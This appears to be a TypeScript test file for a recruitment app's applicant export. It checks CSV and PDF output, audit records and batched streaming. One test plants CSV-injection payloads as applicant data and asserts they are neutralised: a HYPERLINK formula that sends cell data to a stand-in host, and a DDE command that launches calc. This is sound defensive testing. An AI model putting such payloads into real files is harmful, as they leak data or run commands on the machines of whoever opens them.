/** The applicant list's export: CSV and PDF of the filtered list, and its audit record. */
import { describe, expect, it } from 'vitest';
import { and, desc, eq, sql } from 'drizzle-orm';
import { parse as parseCsv } from 'csv-parse/sync';
import { PDFDocument } from 'pdf-lib';
import { answerFilterGroups, applicantFilterSchema } from '@rekry/domain';
import { generateApplicants } from '../src/areas/data-generation/applicant-generator.ts';
import { exportRecorded } from '../src/areas/applicants/export.ts';
import { applicantPageQuery, positionContext } from '../src/areas/applicants/queries.ts';
import { SYSTEM_ACTOR, recordAudit, type AuditEntry } from '../src/platform/audit.ts';
import { auditEvents } from '../src/db/schema.ts';
import { applicantsTestApp, buildApplication, exportedApplicant, labelByName } from './helpers/applicants.ts';
import { adminViewer } from './helpers/scorecards.ts';

const { t, tokens, own, positionWithRights } = applicantsTestApp();

describe('export_Applicants', () => {
  it('exports the filtered list as CSV and as a readable PDF', async () => {
    const position = await positionWithRights();
    const interesting = await labelByName(t.db, own(), 'Intressant');
    await buildApplication(
      t.db,
      own(),
      position.id,
      // The second period holds the text 'true', not the checkbox's true: it was not chosen.
      exportedApplicant(interesting.id, { summerperiodsform_1: true, summerperiodsform_2: 'true' }),
    );
    await buildApplication(t.db, own(), position.id, { firstname: 'Bortfiltrerad' });
    const csv = await t.as(tokens.reader).dispatch('export_Applicants', {
      containerId: own(),
      positionId: position.id,
      labelId: interesting.id,
    });
    expect(csv.status).toBe(200);
    expect(csv.raw.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.raw.headers['content-disposition']).toMatch(/^attachment; filename="sokande-.*\.csv"/);
    const text = csv.raw.body;
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain('Namn;E-post');
    // The columns say Status and Processnivå and each question as the form asks it, never an internal
    // type ('(Interest)', 'RadioGroup: …').
    const header = lines[0]!.split(';');
    expect(header).toEqual(expect.arrayContaining(['Status', 'Processnivå']));
    expect(lines[0]).not.toMatch(/Interest|Process\b|RadioGroup|CheckboxGroup|Perioder:|Meriterande:/);
    expect(lines[1]).toContain('Åke Öberg');
    expect(text).not.toContain('Bortfiltrerad');
    const [titles, cells] = parseCsv(text.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
    const cell = (title: string) => cells![titles!.indexOf(title)];
    expect(cell('Namn')).toBe('Åke Öberg');
    expect(cell('Telefon')).toBe('070-111 22 33');
    expect(cell('Ansökt')).toBe('2026-07-01 23:59');
    expect(cell('Status')).toBe('Intressant');
    expect(cell('Processnivå')).toBe('');
    expect(cell('Läst')).toBe('Ja');
    expect(cell('Tillagd för hand')).toBe('Nej');
    // The summer-period question's column names the chosen period.
    const summer = answerFilterGroups(position.form).find((g) =>
      g.options.some((o) => o.conditions.some((c) => c.key === 'summerperiodsform_1')),
    )!;
    expect(summer.options.some((o) => o.conditions[0]!.key === 'summerperiodsform_2')).toBe(true);
    const period = summer.options.find((o) => o.conditions[0]!.key === 'summerperiodsform_1')!.label;
    expect(cell(summer.title)).toBe(period);

    const pdf = await t.as(tokens.reader).dispatch('export_Applicants', {
      containerId: own(),
      positionId: position.id,
      format: 'pdf',
    });
    expect(pdf.status).toBe(200);
    expect(pdf.raw.headers['content-type']).toBe('application/pdf');
    const bytes = pdf.raw.rawPayload;
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    const doc = await PDFDocument.load(bytes);
    expect(doc.getPageCount()).toBe(1);
    expect(pdf.raw.headers['x-export-rows']).toBe('2');

    // Audited once each file has gone, with its rows.
    const audited = await t.db
      .select({ summary: auditEvents.summary })
      .from(auditEvents)
      .where(
        and(eq(auditEvents.kind, 'export'), sql`${auditEvents.data}->>'positionId' = ${String(position.id)}`),
      )
      .orderBy(auditEvents.id);
    expect(audited.map((a) => a.summary)).toEqual([
      `Exporterade 1 sökande som CSV från tjänsten ${position.name}`,
      `Exporterade 2 sökande som PDF från tjänsten ${position.name}`,
    ]);

    const bad = await t.as(tokens.reader).dispatchUnchecked('export_Applicants', {
      containerId: own(),
      positionId: position.id,
      format: 'xlsx',
    });
    expect(bad.status).toBe(400);
    expect(bad.error?.fields?.format).toBe('Välj CSV eller PDF');
  });

  it('neutralises every cell a spreadsheet would compute (OWASP CSV injection); numbers stay numbers', async () => {
    const position = await positionWithRights();
    const hostile = [
      ['=HYPERLINK("https://ond.example/?"&A1;"Klicka")', '+SUM(1;2)', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)'],
      ['Anna', 'Andersson', '\t=1+1', '\r=1+1'],
    ];
    for (const [firstname, lastname, city, phone] of hostile)
      await buildApplication(t.db, own(), position.id, {
        firstname,
        lastname,
        answers: { form_city: city!, form_mobilePhone: phone! },
      });
    await buildApplication(t.db, own(), position.id, {
      firstname: 'Siffror',
      answers: { form_city: '-12', form_mobilePhone: '+46701234567' },
    });
    const res = await t.as(tokens.reader).dispatch('export_Applicants', {
      containerId: own(),
      positionId: position.id,
    });
    expect(res.status).toBe(200);
    const text = res.raw.body.replace(/^\uFEFF/, '');
    const cells: string[] = parseCsv(text, { delimiter: ';', relax_column_count: true }).flat();
    const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(c));
    expect(formulaLike).toEqual([]);
    for (const value of [
      '=HYPERLINK("https://ond.example/?"&A1;"Klicka") +SUM(1;2)',
      "-2+3+cmd|' /C calc'!A0",
    ])
      expect(cells).toContain(`'${value}`);
    expect(cells).toContain("'@SUM(A1)");
    const tabAndReturn = cells.filter((c) => c.includes('=1+1'));
    expect(tabAndReturn).toHaveLength(2);
    for (const cell of tabAndReturn) expect(cell).toMatch(/^'/);
    expect(cells).toContain('-12');
    expect(cells).toContain('+46701234567');
  });

  it('streams the CSV a batch of rows at a time, and stops reading when the client leaves', async () => {
    const position = await positionWithRights();
    await generateApplicants(t.db, own(), position.id, position.form, 60);
    const pos = await positionContext(t.db, own(), position.id);
    const audit = (entry: AuditEntry) => recordAudit(t.db, SYSTEM_ACTOR, entry);
    const filter = { ...applicantFilterSchema.parse({}), viewer: adminViewer(position.id) };
    const body = async () => {
      const file = await exportRecorded({ db: t.db, audit }, own(), pos, filter, 'csv', { batch: 25 });
      return (file.body as AsyncIterable<string>)[Symbol.asyncIterator]();
    };
    const records = (chunk: { value: unknown }) => (chunk.value as string).split('\r\n').length - 1;

    // Whole: the header, then the rows a batch at a time, each as its query answers.
    const whole = await body();
    const chunks: string[] = [];
    for (let next = await whole.next(); !next.done; next = await whole.next()) chunks.push(next.value);
    expect(chunks.map((chunk) => records({ value: chunk }))).toEqual([1, 25, 25, 10]);
    // Each batch goes on where the last one ended: every applicant once, in the list's order.
    const [, ...rows] = parseCsv(chunks.join('').replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
    const listed = await applicantPageQuery(t.db, own(), position.id, filter, { take: 100 });
    expect(rows.map((row) => row[1])).toEqual(listed.map((row) => row.info.email));

    // A client that leaves after the first batch: the response destroys the stream, which returns the
    // generator; no further batch is read and the audit says how many rows went.
    const left = await body();
    await left.next();
    expect(records(await left.next())).toBe(25);
    await left.return!(undefined);
    expect((await left.next()).done).toBe(true);
    const [last] = await t.db
      .select({ summary: auditEvents.summary, data: auditEvents.data })
      .from(auditEvents)
      .where(eq(auditEvents.kind, 'export'))
      .orderBy(desc(auditEvents.id))
      .limit(1);
    expect(last).toEqual({
      summary: `Exporterade 25 sökande som CSV från tjänsten ${position.name} (avbruten)`,
      data: { export: 'applicants', format: 'csv', positionId: position.id, rows: 25, aborted: true },
    });
  });
});
